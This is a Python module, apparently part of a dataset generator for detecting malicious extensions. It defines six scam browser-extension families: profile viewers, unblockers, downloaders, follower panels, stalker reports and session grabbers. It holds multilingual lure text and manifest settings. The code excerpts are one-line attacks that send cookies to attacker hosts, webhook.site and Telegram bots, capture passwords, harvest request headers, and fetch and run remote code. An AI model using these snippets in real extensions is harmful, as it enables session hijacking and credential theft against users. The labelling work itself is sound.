"""Scam browser-extension families: viewer lures stealing cookies, unblockers, rogue downloaders.

Manifest knobs (see data.generator.manifests): ``mv`` versions, ``perms``/``hosts`` as (always,
sometimes) pairs, ``cs`` content-script alternatives, ``update`` URLs, ``ext_conn`` and ``csp``
alternatives (None = absent), ``dnr`` rule style, ``code`` excerpts a reviewer copied out.
"""

from __future__ import annotations

from data.generator.kit import Bank, Family
from data.generator.manifests import STORE_ONLY

_TT = "https://*.tiktok.com/*"

PROFILE_VIEWER = Family(
    key="ext-scam-profileviewer",
    label="scam",
    subtype="cookie_theft",
    n=11,
    langs=(("en", 3), ("es", 1), ("pt", 1), ("vi", 1)),
    names=("TikTok Profile Viewer - Who Viewed Me", "Who Viewed My TikTok", "TT Visitors Checker"),
    text={
        "en": Bank(
            intros=(
                "See who viewed your TikTok profile right in the browser. {name} adds a Visitors tab to your profile page.",
                "The easiest way to find out who checks your TikTok. Open your profile and click the eye icon.",
            ),
            points=(
                "Visitors tab on your profile",
                "Who watched your videos more than once",
                "Works while you are logged in, no password needed",
                "Instant stalker notifications",
            ),
            closes=(
                "Stay logged in to TikTok so the extension can sync your visitors with our servers.",
                "Free. Sync may take a few minutes the first time.",
            ),
        ),
        "es": Bank(
            intros=(
                "Mira quién vio tu perfil de TikTok desde el navegador. {name} añade una pestaña de visitantes.",
                "La forma más fácil de saber quién revisa tu TikTok.",
            ),
            points=("Pestaña de visitantes", "Quién vio tus videos varias veces", "Sin contraseña"),
            closes=(
                "Mantén la sesión de TikTok abierta para sincronizar tus visitantes con nuestros servidores.",
                "Gratis. La primera sincronización tarda unos minutos.",
            ),
        ),
        "pt": Bank(
            intros=(
                "Veja quem visitou seu perfil do TikTok no navegador. O {name} adiciona uma aba de visitantes.",
                "O jeito mais fácil de saber quem stalkeia seu TikTok.",
            ),
            points=("Aba de visitantes", "Quem assistiu seus vídeos mais de uma vez", "Sem senha"),
            closes=(
                "Fique logado no TikTok para a extensão sincronizar seus visitantes com nossos servidores.",
                "Grátis. A primeira sincronização leva alguns minutos.",
            ),
        ),
        "vi": Bank(
            intros=(
                "Xem ai đã xem hồ sơ TikTok của bạn ngay trên trình duyệt. {name} thêm tab Khách truy cập.",
                "Cách dễ nhất để biết ai hay xem TikTok của bạn.",
            ),
            points=("Tab khách truy cập", "Ai xem video nhiều lần", "Không cần mật khẩu"),
            closes=(
                "Giữ đăng nhập TikTok để tiện ích đồng bộ khách truy cập với máy chủ của chúng tôi.",
                "Miễn phí. Lần đồng bộ đầu tiên mất vài phút.",
            ),
        ),
    },
    knobs={
        "mv": (3,),
        "perms": (("cookies", "storage"), ("tabs", "scripting", "alarms")),
        "hosts": ((_TT,), ("https://api.ttvisitors-sync.com/*",)),
        "cs": (
            ({"matches": [_TT], "js": ["content.js"], "run_at": "document_idle"},),
            ({"matches": [_TT], "js": ["inject.js", "tab.js"], "run_at": "document_start"},),
        ),
        "update": ("store",),
        "ext_conn": (None, {"matches": ["https://*.ttvisitors-sync.com/*"]}),
        "csp": (None,),
        "dnr": None,
        "code": (
            "const c = document.cookie; fetch('https://api.ttvisitors-sync.com/v1/sync', {method: 'POST', body: btoa(c)});",
            "chrome.cookies.getAll({domain: '.tiktok.com'}, cs => post('/collect', cs.map(x => x.name + '=' + x.value)));",
            "setTimeout(() => navigator.sendBeacon(SYNC, JSON.stringify({s: document.cookie, u: location.href})), 3000);",
        ),
    },
)

UNBLOCKER = Family(
    key="ext-scam-unblocker",
    label="scam",
    subtype="proxy_header_harvest",
    n=10,
    langs=(("en", 2), ("tr", 1), ("id", 1), ("de", 1)),
    names=("TikTok Unblocker - Free Proxy", "Unblock TT: VPN for TikTok", "TikAccess Unblock"),
    text={
        "en": Bank(
            intros=(
                "Watch TikTok anywhere: school, work or countries where it is blocked. {name} unblocks it in one click.",
                "Blocked? {name} routes TikTok through our fast servers and removes annoying frame limits.",
            ),
            points=(
                "One-click unblock",
                "Embed TikTok videos in any site",
                "No sign-up",
                "Unlimited bandwidth",
            ),
            closes=(
                "The extension needs access to all websites to route traffic. By installing you agree to share anonymous usage data.",
                "Free forever, supported by partner offers.",
            ),
        ),
        "tr": Bank(
            intros=(
                "TikTok'u her yerde izle: okul, iş ya da engelli ülkeler. {name} tek tıkla açar.",
                "Engellendi mi? {name} TikTok'u hızlı sunucularımızdan geçirir.",
            ),
            points=("Tek tıkla erişim", "Kayıt yok", "Sınırsız trafik"),
            closes=(
                "Trafiği yönlendirmek için tüm sitelere erişim gerekir. Anonim kullanım verisi paylaşılır.",
                "Sonsuza kadar ücretsiz.",
            ),
        ),
        "id": Bank(
            intros=(
                "Tonton TikTok di mana saja, bahkan saat diblokir. {name} membuka blokir dengan satu klik.",
                "Diblokir? {name} mengalihkan TikTok lewat server cepat kami.",
            ),
            points=("Buka blokir satu klik", "Tanpa daftar", "Kuota tanpa batas"),
            closes=(
                "Ekstensi perlu akses ke semua situs untuk mengalihkan lalu lintas. Data penggunaan anonim dibagikan.",
                "Gratis selamanya.",
            ),
        ),
        "de": Bank(
            intros=(
                "TikTok überall schauen, auch wo es gesperrt ist. {name} entsperrt mit einem Klick.",
                "Gesperrt? {name} leitet TikTok über unsere schnellen Server.",
            ),
            points=("Entsperren mit einem Klick", "Keine Anmeldung", "Unbegrenztes Datenvolumen"),
            closes=(
                "Für die Umleitung braucht die Erweiterung Zugriff auf alle Websites. Anonyme Nutzungsdaten werden geteilt.",
                "Für immer kostenlos.",
            ),
        ),
    },
    knobs={
        "mv": (3, 3, 2),
        "perms": (("proxy", "storage", "declarativeNetRequest"), ("webRequest", "tabs", "cookies")),
        "hosts": (("<all_urls>",), ()),
        "cs": ((), ({"matches": ["<all_urls>"], "js": ["frame.js"], "all_frames": True},)),
        "update": ("store", "https://upd.tikaccess-cdn.net/crx/updates.xml"),
        "ext_conn": (None,),
        "csp": (None,),
        "dnr": "strip",
        "code": (
            "chrome.proxy.settings.set({value: {mode: 'pac_script', pacScript: {url: PAC}}});",
            "chrome.webRequest.onSendHeaders.addListener(d => queue.push(d.requestHeaders), {urls: ['<all_urls>']}, ['requestHeaders', 'extraHeaders']);",
        ),
    },
)

DL_REMOTE = Family(
    key="ext-scam-dlremote",
    label="scam",
    subtype="malicious_downloader",
    n=10,
    langs=(("en", 2), ("fr", 1), ("pt", 1), ("es", 1)),
    names=("TT Video Downloader HD", "Snaptik Saver Pro", "Downloader for TikTok - No Watermark"),
    text={
        "en": Bank(
            intros=(
                "Download any TikTok video without watermark in HD. A download button appears under every video.",
                "{name}: save videos, sounds and profile pictures in one click, and see who saved your videos.",
            ),
            points=(
                "No watermark",
                "Batch download whole profiles",
                "MP3 extraction",
                "Auto-updates with new features",
            ),
            closes=(
                "Updates are delivered from our own server so you always get the latest version.",
                "Free; a partner page may open after install.",
            ),
        ),
        "fr": Bank(
            intros=(
                "Télécharge n'importe quelle vidéo TikTok sans filigrane en HD.",
                "{name} : vidéos, sons et photos de profil en un clic.",
            ),
            points=("Sans filigrane", "Téléchargement par lot", "Extraction MP3"),
            closes=(
                "Les mises à jour viennent de notre propre serveur.",
                "Gratuit ; une page partenaire peut s'ouvrir après l'installation.",
            ),
        ),
        "pt": Bank(
            intros=(
                "Baixe qualquer vídeo do TikTok sem marca d'água em HD.",
                "{name}: vídeos, sons e fotos de perfil com um clique.",
            ),
            points=("Sem marca d'água", "Download em lote", "Extração de MP3"),
            closes=(
                "As atualizações vêm do nosso próprio servidor.",
                "Grátis; uma página parceira pode abrir após instalar.",
            ),
        ),
        "es": Bank(
            intros=(
                "Descarga cualquier video de TikTok sin marca de agua en HD.",
                "{name}: videos, sonidos y fotos de perfil en un clic.",
            ),
            points=("Sin marca de agua", "Descarga por lotes", "Extracción MP3"),
            closes=(
                "Las actualizaciones llegan desde nuestro propio servidor.",
                "Gratis; puede abrirse una página de socios tras instalar.",
            ),
        ),
    },
    knobs={
        "mv": (3, 2),
        "perms": (
            ("downloads", "storage", "tabs"),
            ("management", "cookies", "webNavigation", "scripting"),
        ),
        "hosts": ((_TT,), ("<all_urls>",)),
        "cs": (
            (
                {
                    "matches": ["<all_urls>"],
                    "js": ["https://cdn.vdl-static.top/loader.js", "btn.js"],
                },
            ),
            ({"matches": [_TT], "js": ["btn.js"]},),
        ),
        "update": ("https://vdl-static.top/updates.xml", "https://ext-upd.snapsaver.site/crx.xml"),
        "ext_conn": ({"matches": ["*://*.vdl-static.top/*", "*://*.snapsaver.site/*"]}, None),
        "csp": (
            "script-src 'self' 'unsafe-eval' https://cdn.vdl-static.top; object-src 'self'",
            None,
        ),
        "dnr": None,
        "code": (
            "fetch(CFG_URL).then(r => r.text()).then(t => new Function(t)());",
            "chrome.management.getAll(list => report(list.filter(e => e.enabled).map(e => e.id)));",
        ),
    },
)

FAN_PANEL = Family(
    key="ext-scam-fanpanel",
    label="scam",
    subtype="credential_phishing",
    n=9,
    langs=(("en", 2), ("id", 1), ("vi", 1)),
    names=("Free Followers Panel for TikTok", "LikeBoost - Free Likes", "TT Fan Panel"),
    text={
        "en": Bank(
            intros=(
                "Get free followers and likes while you browse. {name} trades likes with thousands of real users.",
                "Log in once and let {name} grow your account every day.",
            ),
            points=(
                "Free followers every 30 minutes",
                "Auto-like and auto-follow",
                "Verify your account once to start",
                "See who viewed your profile (Pro)",
            ),
            closes=(
                "Click the panel icon and sign in with your TikTok username and password to connect.",
                "Your login is needed to send likes from your account to the exchange network.",
            ),
        ),
        "id": Bank(
            intros=(
                "Dapatkan followers dan likes gratis sambil browsing. {name} bertukar likes dengan ribuan pengguna.",
                "Masuk sekali dan biarkan {name} menambah followers setiap hari.",
            ),
            points=(
                "Followers gratis tiap 30 menit",
                "Auto-like dan auto-follow",
                "Verifikasi akun sekali",
            ),
            closes=(
                "Klik ikon panel lalu masuk dengan username dan kata sandi TikTok.",
                "Login diperlukan untuk mengirim likes dari akunmu.",
            ),
        ),
        "vi": Bank(
            intros=(
                "Nhận follow và tim miễn phí khi lướt web. {name} trao đổi tim với hàng nghìn người dùng.",
                "Đăng nhập một lần và để {name} tăng follow mỗi ngày.",
            ),
            points=("Follow miễn phí mỗi 30 phút", "Tự động thả tim", "Xác minh tài khoản một lần"),
            closes=(
                "Bấm biểu tượng và đăng nhập bằng tên người dùng và mật khẩu TikTok.",
                "Cần đăng nhập để gửi tim từ tài khoản của bạn.",
            ),
        ),
    },
    knobs={
        "mv": (3, 2),
        "perms": (("storage", "cookies"), ("tabs", "notifications", "scripting")),
        "hosts": (("<all_urls>",), (_TT,)),
        "cs": (({"matches": ["<all_urls>"], "js": ["panel.js"], "run_at": "document_end"},),),
        "update": ("store", "https://likeboost-panel.top/ext/update.xml"),
        "ext_conn": ({"matches": ["https://*.likeboost-panel.top/*"]},),
        "csp": (None,),
        "dnr": None,
        "code": (
            "form.onsubmit = () => fetch('https://likeboost-panel.top/api/login', {method: 'POST', body: new FormData(form)});",
            "document.querySelectorAll('input[type=password]').forEach(i => i.addEventListener('change', e => send(e.target.value)));",
        ),
    },
)

STALK_REPORT = Family(
    key="ext-scam-stalkreport",
    label="scam",
    subtype="fleeceware_fabricated_report",
    n=10,
    langs=(("en", 2), ("es", 1), ("tr", 1), ("fr", 1)),
    names=("Stalker Report for TikTok", "Secret Admirers Finder", "ProfileSpy Report"),
    text={
        "en": Bank(
            intros=(
                "{name} builds a private report of who stalks your profile, who screenshots your videos and who you should watch out for.",
                "Your profile, decoded: stalkers, secret admirers and fake friends in one report.",
            ),
            points=(
                "Top stalkers this week",
                "Who screenshotted your videos",
                "Secret admirers score",
                "Fake friends detector",
            ),
            closes=(
                "First 3 names are free. Unlock the full report for {price}.",
                "Weekly premium {price}; names are revealed after payment.",
            ),
        ),
        "es": Bank(
            intros=(
                "{name} crea un informe privado de quién acosa tu perfil y quién hace capturas de tus videos.",
                "Tu perfil al descubierto: acosadores y admiradores secretos en un informe.",
            ),
            points=("Principales acosadores", "Quién capturó tus videos", "Admiradores secretos"),
            closes=(
                "Los 3 primeros nombres son gratis. Desbloquea el informe por {price}.",
                "Premium semanal {price}; los nombres se revelan tras el pago.",
            ),
        ),
        "tr": Bank(
            intros=(
                "{name} profilini kimin gizlice izlediğini ve videolarının ekran görüntüsünü kimin aldığını raporlar.",
                "Profilin çözüldü: gizli hayranlar ve sahte arkadaşlar tek raporda.",
            ),
            points=("Haftanın en çok bakanları", "Ekran görüntüsü alanlar", "Gizli hayranlar"),
            closes=(
                "İlk 3 isim ücretsiz. Tam rapor {price}.",
                "Haftalık premium {price}; isimler ödemeden sonra açılır.",
            ),
        ),
        "fr": Bank(
            intros=(
                "{name} dresse un rapport privé : qui espionne ton profil, qui fait des captures de tes vidéos.",
                "Ton profil décodé : admirateurs secrets et faux amis dans un rapport.",
            ),
            points=("Top espions de la semaine", "Qui a capturé tes vidéos", "Admirateurs secrets"),
            closes=(
                "Les 3 premiers noms sont gratuits. Rapport complet : {price}.",
                "Premium hebdomadaire {price} ; noms révélés après paiement.",
            ),
        ),
    },
    knobs={
        "mv": (2, 2, 3),
        "perms": (("cookies", "webRequest", "webRequestBlocking", "storage"), ("tabs", "history")),
        "hosts": ((_TT, "https://*.tiktokv.com/*"), ("https://pay.spyreport-hub.com/*",)),
        "cs": (({"matches": [_TT], "js": ["report.js"], "css": ["report.css"]},),),
        "update": ("store",),
        "ext_conn": (None, {"matches": ["https://*.spyreport-hub.com/*"]}),
        "csp": ("script-src 'self' https://js.spyreport-hub.com; object-src 'self'", None),
        "dnr": None,
        "iap": ("$4.99/week", "€3,99 par semaine", "$6.99 per week", "₺79/hafta"),
        "code": (
            "chrome.webRequest.onBeforeSendHeaders.addListener(d => { save(d.requestHeaders.find(h => h.name === 'Cookie')); }, {urls: ['*://*.tiktok.com/*']}, ['blocking', 'requestHeaders']);",
            "const names = shuffle(followers).slice(0, 10); render(names, {blur: !paid});",
        ),
    },
)

# Session stealers published as small "tools": a thin manifest (a vague name and one line of
# text), cookies plus one social network's site, a popup whose button reads every cookie of that
# site and posts it to a webhook or chat bot. The manifest alone says little; the code says all.
SESSION_GRAB = Family(
    key="ext-scam-sessiongrab",
    label="scam",
    subtype="cookie_theft",
    n=12,
    langs=(("en", 6), ("id", 1), ("pt", 1), ("tr", 1), ("es", 1)),
    names=("Auto Liker Tool", "Page Helper", "Account Tools", "Quick Login Fix", "FB Unlock"),
    text={
        "en": Bank(
            intros=("{name}: one click tools for your account.", "Simple helper for your profile."),
            points=(
                "One click, no setup",
                "Works on the account you are logged in to",
                "Auto like, auto follow and page unlock in the same popup",
                "Fix login problems and checkpoint errors",
                "Keeps working after the site updates",
                "Faster than doing it by hand",
            ),
            closes=(
                "Open the site, stay logged in, click the button in the popup and wait a few seconds until it says done.",
                "Test version, more tools coming. Leave a review if it helped you and share it with your friends.",
            ),
        ),
        "id": Bank(
            intros=("{name}: alat satu klik untuk akunmu.", "Pembantu sederhana untuk profilmu."),
            points=("Satu klik", "Berjalan di akun yang sedang login"),
            closes=("Klik tombol di popup lalu tunggu.", "versi tes"),
        ),
        "pt": Bank(
            intros=(
                "{name}: ferramentas de um clique para sua conta.",
                "Ajudante simples para seu perfil.",
            ),
            points=("Um clique", "Funciona na conta logada"),
            closes=("Clique no botão do popup e espere.", "versão de teste"),
        ),
        "es": Bank(
            intros=(
                "{name}: herramientas de un clic para tu cuenta.",
                "Ayudante simple para tu perfil.",
            ),
            points=("Un clic", "Funciona con tu cuenta iniciada"),
            closes=("Pulsa el botón del popup y espera.", "versión de prueba"),
        ),
        "tr": Bank(
            intros=("{name}: hesabın için tek tık araçlar.", "Profilin için basit yardımcı."),
            points=("Tek tık", "Giriş yapılmış hesapta çalışır"),
            closes=("Açılır penceredeki düğmeye bas ve bekle.", "deneme sürümü"),
        ),
        "vi": Bank(
            intros=("{name}: công cụ một chạm cho tài khoản.", "Trợ lý đơn giản cho hồ sơ."),
            points=("Một chạm", "Chạy trên tài khoản đang đăng nhập"),
            closes=("Bấm nút trong popup rồi chờ.", "bản thử"),
        ),
    },
    knobs={
        "mv": (3, 3, 2),
        "perms": (("cookies", "tabs"), ("scripting", "activeTab", "storage")),
        "hosts": (
            ("*://*.facebook.com/*",),
            ("*://*.instagram.com/*", _TT, "*://web.facebook.com/*"),
        ),
        "cs": ((),),
        **STORE_ONLY,
        "code": (
            "$('#go').click(() => chrome.cookies.getAll({url: 'https://www.facebook.com'}, cs => $.ajax({url: 'https://webhook.site/' + ID, type: 'POST', data: {c: cs.map(c => c.name + '=' + c.value)}})));",
            "chrome.cookies.getAll({domain: '.instagram.com'}, cs => fetch(`https://api.telegram.org/bot${T}/sendMessage?chat_id=${C}&text=` + encodeURIComponent(JSON.stringify(cs))));",
            "document.getElementById('btn').onclick = () => chrome.cookies.getAll({domain: 'tiktok.com'}, cs => fetch(HOOK, {method: 'POST', body: JSON.stringify(cs)}));",
        ),
    },
)

FAMILIES = (PROFILE_VIEWER, UNBLOCKER, DL_REMOTE, FAN_PANEL, STALK_REPORT, SESSION_GRAB)
